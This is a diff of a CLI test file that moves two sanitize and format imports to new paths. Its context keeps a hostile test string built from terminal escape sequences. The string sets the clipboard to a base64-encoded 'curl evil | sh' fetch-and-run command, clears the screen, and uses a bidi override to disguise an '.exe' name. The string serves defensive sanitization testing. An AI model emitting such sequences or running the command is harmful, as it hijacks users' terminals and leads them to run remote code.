@@ -6,8 +6,8 @@ import { join } from 'node:path';
 import { PassThrough } from 'node:stream';
 import { describe, expect, it } from 'vitest';
 import { runCliAsync } from '../../../src/cli/main.ts';
-import { forTerminal, guardTerminal } from '../../../src/runtime/sanitize.ts';
-import { clip, truncate } from '../../../src/ui/format.ts';
+import { clip, truncate } from '../../../src/text/format.ts';
+import { forTerminal, guardTerminal } from '../../../src/text/sanitize.ts';
 
 // set the clipboard (OSC 52), clear the screen, a C1 CSI (ESC [ on 8-bit terminals), a bidi override
 const HOSTILE = 'web\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b[2J\x9b31m\u202etxt.exe';
